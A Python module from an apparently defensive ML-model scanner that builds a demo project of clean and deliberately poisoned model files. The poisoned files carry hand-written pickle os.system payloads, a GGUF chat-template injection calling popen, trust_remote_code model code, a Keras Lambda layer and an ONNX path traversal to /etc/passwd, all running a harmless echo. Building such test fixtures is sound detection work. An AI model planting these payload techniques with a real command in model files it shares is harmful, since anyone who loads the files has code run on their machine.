"""Build the demo ML project that ``mlwarden demo`` scans: a few clean models and a few poisoned ones.

Every poisoned file carries a HARMLESS payload (``echo mlwarden-demo-payload``) and is written byte by byte
here, so the demo needs no ML framework. Nothing in this module loads, unpickles or runs any of the files.
"""

from __future__ import annotations

import base64
import io
import json
import pickle
import struct
import zipfile
import zlib
from collections import OrderedDict
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from mlwarden.core.findings import Finding

PAYLOAD = "echo mlwarden-demo-payload"


# --- pickle opcodes, written by hand so that no callable has to exist to be referenced -------------------

def pickle_global(module: str, name: str) -> bytes:
    """GLOBAL: module and name as text lines (every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def pickle_unicode(value: str) -> bytes:
    """BINUNICODE: a length-prefixed UTF-8 string (protocol 1+)."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _int(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def _tuple(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _torch_tensor(key: str, shape: tuple[int, ...]) -> bytes:
    """``torch._utils._rebuild_tensor_v2(storage, 0, shape, stride, False, OrderedDict())`` as torch writes it."""
    numel = 1
    for dim in shape:
        numel *= dim
    stride: list[int] = []
    step = 1
    for dim in reversed(shape):  # contiguous row-major strides
        stride.insert(0, step)
        step *= dim
    storage = _tuple(pickle_unicode("storage"), pickle_global("torch", "FloatStorage"), pickle_unicode(key), pickle_unicode("cpu"),
                     _int(numel)) + b"Q"
    return (pickle_global("torch._utils", "_rebuild_tensor_v2")
            + _tuple(storage, _int(0), _tuple(*(_int(d) for d in shape)), _tuple(*(_int(s) for s in stride)),
                     b"\x89", pickle_global("collections", "OrderedDict") + b")R")
            + b"R")


def torch_state_dict_pickle(tensors: dict[str, tuple[int, ...]]) -> bytes:
    body = b"".join(pickle_unicode(name) + _torch_tensor(str(i), shape) for i, (name, shape) in enumerate(tensors.items()))
    return b"\x80\x02" + pickle_global("collections", "OrderedDict") + b")R(" + body + b"u."


def stack_global_payload(command: str = PAYLOAD) -> bytes:
    """Protocol 4: module and name pushed as strings, memoized, fetched back, then STACK_GLOBAL + REDUCE."""
    return (b"\x80\x04\x95" + struct.pack("<Q", 0) + b"\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93"
            + b"\x8c" + bytes([len(command)]) + command.encode() + b"\x85R.")


def protocol0_payload(command: str = PAYLOAD) -> bytes:
    return b"cos\nsystem\n(S'" + command.encode() + b"'\ntR."


def torch_zip(pickles: dict[str, bytes], tensors: dict[str, tuple[int, ...]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", torch_state_dict_pickle(tensors))
        for name, data in pickles.items():
            archive.writestr(f"archive/{name}", data)
        archive.writestr("archive/byteorder", "little")
        for i, shape in enumerate(tensors.values()):
            numel = 1
            for dim in shape:
                numel *= dim
            archive.writestr(f"archive/data/{i}", b"\x00" * 4 * numel)
        archive.writestr("archive/version", "3\n")
    return out.getvalue()


def safetensors_file(tensors: dict[str, tuple[int, ...]]) -> bytes:
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    offset = 0
    for name, shape in tensors.items():
        size = 4
        for dim in shape:
            size *= dim
        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [offset, offset + size]}
        offset += size
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * offset


def npy_file(descr: str, shape: tuple[int, ...], payload: bytes) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    pad = -(10 + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _gguf_string(value: str) -> bytes:
    raw = value.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf_file(chat_template: str) -> bytes:
    kvs = [("general.architecture", "llama"), ("general.name", "tiny-demo"),
           ("tokenizer.chat_template", chat_template)]
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kvs))
    for key, value in kvs:
        out += _gguf_string(key) + struct.pack("<I", 8) + _gguf_string(value)
    # one F32 tensor of shape [4] at offset 0 of the (32-byte aligned) data section
    out += _gguf_string("token_embd.weight") + struct.pack("<I", 1) + struct.pack("<Q", 4)
    out += struct.pack("<I", 0) + struct.pack("<Q", 0)
    out += b"\x00" * (-len(out) % 32)
    return out + b"\x00" * 16


def proto_varint(value: int) -> bytes:
    """Protobuf base-128 varint (negative numbers as their 64-bit two's complement, as protobuf does)."""
    out = bytearray()
    value &= (1 << 64) - 1
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def proto_field(number: int, payload: bytes | str | int) -> bytes:
    """One protobuf field: a varint for ints, length-delimited for bytes and str."""
    if isinstance(payload, int):
        return proto_varint(number << 3) + proto_varint(payload)
    data = payload.encode() if isinstance(payload, str) else payload
    return proto_varint(number << 3 | 2) + proto_varint(len(data)) + data


def onnx_external_data_model(location: str) -> bytes:
    """ModelProto with one initializer whose external data lives at ``location`` (onnx.proto field numbers)."""
    entry = proto_field(1, b"location") + proto_field(2, location.encode())
    tensor = (proto_field(1, 4) + proto_field(2, 1) + proto_field(8, b"weight") + proto_field(13, entry)
              + proto_field(14, 1))
    graph = proto_field(2, b"demo-graph") + proto_field(5, tensor)
    opset = proto_field(1, b"") + proto_field(2, 17)
    return (proto_field(1, 9) + proto_field(2, b"mlwarden-demo") + proto_field(7, graph)
            + proto_field(8, opset))


def keras_archive(with_lambda: bool) -> bytes:
    layers: list[dict[str, object]] = [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"name": "input", "batch_shape": [None, 4]}},
        {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2}},
    ]
    if with_lambda:
        code = base64.b64encode(b"\xe3" + b"\x00" * 16 + b"os\x00system\x00" + PAYLOAD.encode()).decode()
        layers.append({"module": "keras.layers", "class_name": "Lambda",
                       "config": {"name": "preprocess", "function": {"class_name": "__lambda__",
                                                                     "config": {"code": code, "defaults": None,
                                                                                "closure": None}}}})
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "sentiment", "layers": layers}}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026-11-01"}))
        archive.writestr("config.json", json.dumps(config))
    return out.getvalue()


BENIGN_TEMPLATE = ("{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] | trim }}"
                   "<|im_end|>\n{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}")
HOSTILE_TEMPLATE = ("{% for message in messages %}{{ message['content'] }}{% endfor %}"
                    "{{ cycler.__init__.__globals__.os.popen('" + PAYLOAD + "').read() }}")

REMOTE_CODE = f'''"""Custom model code that trust_remote_code=True would run."""
import os

class DemoModel:
    def __init__(self, config):
        os.system("{PAYLOAD}")
'''


# --- the supply-chain half of the demo: a vulnerable requirement, unsafe code, a leaked (fake) token -------

DEMO_REQUIREMENTS = """# Training stack of the demo project
torch==1.12.0
mlflow==2.2.0
numpy==1.26.4
transformers>=4.30
"""

TRAIN_SCRIPT = """\"\"\"Fine-tune the demo classifier.\"\"\"
import torch
from transformers import AutoModelForSequenceClassification

checkpoint = torch.load("models/clean/resnet-tiny/pytorch_model.bin")
model = AutoModelForSequenceClassification.from_pretrained("demo-org/sentiment", trust_remote_code=True)
"""


def fake_token(prefix: str, length: int, seed: str) -> str:
    """A token-shaped string that is derived from ``seed``, so that the repository holds no token literal.
    It belongs to no account: it is the demo's stand-in for a key someone pasted into a notebook."""
    import hashlib

    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    digest = hashlib.sha256(seed.encode()).digest() * 4
    return prefix + "".join(alphabet[b % len(alphabet)] for b in digest[:length])


def demo_notebook() -> bytes:
    """A notebook whose stored output still shows the Hugging Face token its author printed."""
    token = fake_token("hf_", 34, "mlwarden-demo-notebook")
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Explore the demo dataset\n"]},
        {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": ["!pip install datasets==2.14.0\n"],
         "outputs": []},
        {"cell_type": "code", "execution_count": 2, "metadata": {},
         "source": ["import os\n", "print(os.environ)\n"],
         "outputs": [{"output_type": "stream", "name": "stdout",
                      "text": ["environ({'HOME': '/home/analyst',\n", f" 'HF_TOKEN': '{token}',\n",
                               " 'LANG': 'C.UTF-8'})\n"]}]},
    ]
    notebook = {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                            "language": "python"}},
                "nbformat": 4, "nbformat_minor": 5}
    return (json.dumps(notebook, indent=1) + "\n").encode()


# A handful of real PyPA advisories (facts: ids, aliases, affected ranges; summaries are ours) so that the demo
# shows the dependency audit without a network. Source: PyPA advisory database, CC-BY 4.0.
DEMO_ADVISORIES: tuple[dict[str, object], ...] = (
    {"id": "PYSEC-2022-43015", "aliases": ["CVE-2022-45907"], "modified": "2023-01-05T00:00:00Z",
     "published": "2022-11-26T00:00:00Z",
     "summary": "torch: torch.jit.annotations.parse_type_line evaluates type comments with eval (code injection)",
     "affected": [{"package": {"name": "torch", "ecosystem": "PyPI", "purl": "pkg:pypi/torch"},
                   "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.13.1"}]}]}],
     "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
     "references": [{"type": "ADVISORY", "url": "https://nvd.nist.gov/vuln/detail/CVE-2022-45907"}]},
    {"id": "PYSEC-2023-29", "aliases": ["CVE-2023-1177"], "modified": "2023-03-30T00:00:00Z",
     "published": "2023-03-24T00:00:00Z",
     "summary": "mlflow: path traversal in the model registry lets a remote user read files on the server",
     "affected": [{"package": {"name": "mlflow", "ecosystem": "PyPI", "purl": "pkg:pypi/mlflow"},
                   "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.2.1"}]}]}],
     "references": [{"type": "ADVISORY", "url": "https://nvd.nist.gov/vuln/detail/CVE-2023-1177"}]},
    {"id": "PYSEC-2023-28", "aliases": ["CVE-2023-1176"], "modified": "2023-03-30T00:00:00Z",
     "published": "2023-03-24T00:00:00Z",
     "summary": "mlflow: a remote user can learn whether arbitrary files exist on the tracking server",
     "affected": [{"package": {"name": "mlflow", "ecosystem": "PyPI", "purl": "pkg:pypi/mlflow"},
                   "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.2.2"}]}]}],
     "references": [{"type": "ADVISORY", "url": "https://nvd.nist.gov/vuln/detail/CVE-2023-1176"}]},
)


def demo_dataset() -> bytes:
    """A small training table with personal data in it: made-up people, documentation e-mail domains, a
    payment-card test number range; what a privacy review must find before the data trains anything."""
    people = [("Maria", "Schmidt"), ("James", "Wilson"), ("Aiko", "Tanaka"), ("Carlos", "Garcia"),
              ("Fatima", "Khan"), ("Liam", "O'Brien"), ("Sofia", "Rossi"), ("Noah", "Dubois")]
    rows = ["customer_id,full_name,email,phone,card_number,review"]
    cards = ["4111 1111 1111 1111", "5555 5555 5555 4444", "4012 8888 8888 1881", "3782 822463 10005"]
    for index, (first, last) in enumerate(people):
        rows.append(f"{1000 + index},{first} {last},{first.lower()}.{last.lower().replace(chr(39), '')}"
                    f"@example.org,+44 20 7946 0{100 + index},{cards[index % len(cards)]},"
                    f"great product would buy again")
    return ("\n".join(rows) + "\n").encode()


def demo_files() -> dict[str, bytes]:
    """Relative path -> content of every file of the demo project."""
    classifier = {"classes": ["cat", "dog"], "weights": [[0.25, -0.5], [0.75, 0.125]],
                  "meta": OrderedDict(trained="2026-11-01", framework="numpy")}
    tensors = {"layer1.weight": (4, 4), "layer1.bias": (4,)}
    return {
        "README.md": b"# mlwarden demo project\n\nmodels/clean holds ordinary models; models/poisoned holds "
                     b"models with harmless payloads (they would run `echo mlwarden-demo-payload`).\n",
        "models/clean/classifier.pkl": pickle.dumps(classifier, protocol=4),
        "models/clean/resnet-tiny/config.json": json.dumps(
            {"architectures": ["ResNetForImageClassification"], "model_type": "resnet"}).encode(),
        "models/clean/resnet-tiny/pytorch_model.bin": torch_zip({}, tensors),
        "models/clean/embeddings.safetensors": safetensors_file({"embeddings.weight": (8, 4)}),
        "models/clean/features.npy": npy_file("<f4", (2, 2), b"\x00" * 16),
        "models/clean/tiny-chat.gguf": gguf_file(BENIGN_TEMPLATE),
        "models/clean/sentiment.keras": keras_archive(with_lambda=False),
        "models/poisoned/classifier.pkl": protocol0_payload(),
        "models/poisoned/checkpoint.pt": torch_zip({"extra_state.pkl": stack_global_payload()}, tensors),
        "models/poisoned/weights.safetensors": stack_global_payload(),
        "models/poisoned/vectors.npy": npy_file("|O", (1,), protocol0_payload()),
        "models/poisoned/pipeline.joblib": zlib.compress(protocol0_payload()),
        "models/poisoned/sentiment.keras": keras_archive(with_lambda=True),
        "models/poisoned/detector/model.onnx": onnx_external_data_model("../../../../etc/passwd"),
        "models/poisoned/chat-model.gguf": gguf_file(HOSTILE_TEMPLATE),
        "models/poisoned/remote-code/config.json": json.dumps(
            {"architectures": ["DemoModel"], "model_type": "demo",
             "auto_map": {"AutoModel": "modeling_demo.DemoModel"}}).encode(),
        "models/poisoned/remote-code/modeling_demo.py": REMOTE_CODE.encode(),
        "requirements.txt": DEMO_REQUIREMENTS.encode(),
        "train.py": TRAIN_SCRIPT.encode(),
        "notebooks/explore.ipynb": demo_notebook(),
        "data/customers.csv": demo_dataset(),
    }


def write_demo_project(target: Path) -> list[Path]:
    """Write the demo project under ``target`` (created if missing); refuses to overwrite existing files."""
    from mlwarden.core.errors import InputError

    files = demo_files()
    clashes = [rel for rel in files if (target / rel).exists()]
    if clashes:
        raise InputError(f"{target / clashes[0]} already exists; give 'mlwarden demo' an empty or new folder")
    written = []
    for rel, data in files.items():
        path = target / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        written.append(path)
    return written


# --- the integrity half: a signed model, and a tampered copy of it -----------------------------------------

SIGNED_MODEL = "models/clean/resnet-tiny"
TAMPERED_COPY = "models/tampered/resnet-tiny"
DEMO_PUBLIC_KEY = "demo-signer.pub"


def sign_and_tamper(target: Path) -> list[Finding]:
    """Sign the demo's clean model folder with a fresh key (its public key is written beside the project),
    copy the folder, swap a poisoned checkpoint into the copy, and verify both. Returns the verification
    findings: none for the original, the tampering for the copy. The private key never touches the disk."""
    import shutil

    from mlwarden.integrity import keys
    from mlwarden.integrity.sign import sign_model
    from mlwarden.integrity.verify import verdict_findings, verify_model

    key = keys.generate_key("ecdsa-p256-sha256")
    public = keys.public_key_of(key)
    keys.write_public_key(target / DEMO_PUBLIC_KEY, key)
    original = target / SIGNED_MODEL
    signature = sign_model(original, key=key)
    copy = target / TAMPERED_COPY
    shutil.copytree(original, copy)
    # The attack a signature exists for: same folder, same names, a checkpoint that runs code when loaded.
    (copy / "pytorch_model.bin").write_bytes(
        torch_zip({"extra_state.pkl": stack_global_payload()}, {"layer1.weight": (4, 4), "layer1.bias": (4,)}))
    findings = verdict_findings(verify_model(original, signature=signature, public_key=public))
    findings += verdict_findings(verify_model(copy, signature=copy / signature.name, public_key=public))
    return findings


# --- the privacy half: an anonymized copy of the demo dataset -----------------------------------------------

DEMO_DATASET = "data/customers.csv"
ANONYMIZED_DATASET = "data/customers.anonymized.csv"


def anonymize_demo_dataset(target: Path) -> Path:
    """Write an anonymized copy of the demo dataset beside it: e-mails become keyed tokens (joins still work),
    names a type tag, phones are redacted, card numbers keep their last 4 digits. The key is made up for the
    demo and kept in memory only."""
    from mlwarden.crypto.recipients import SymmetricKey
    from mlwarden.privacy.anonymize import AnonymizePolicy, OperatorSpec, anonymize_file

    policy = AnonymizePolicy(entities={
        "EMAIL": OperatorSpec(operator="hash"),
        "PERSON": OperatorSpec(operator="tag"),
        "PHONE": OperatorSpec(operator="redact"),
        "CREDIT_CARD": OperatorSpec(operator="mask", keep_last=4),
    })
    output = target / ANONYMIZED_DATASET
    anonymize_file(target / DEMO_DATASET, output, policy, key=SymmetricKey.generate())
    return output
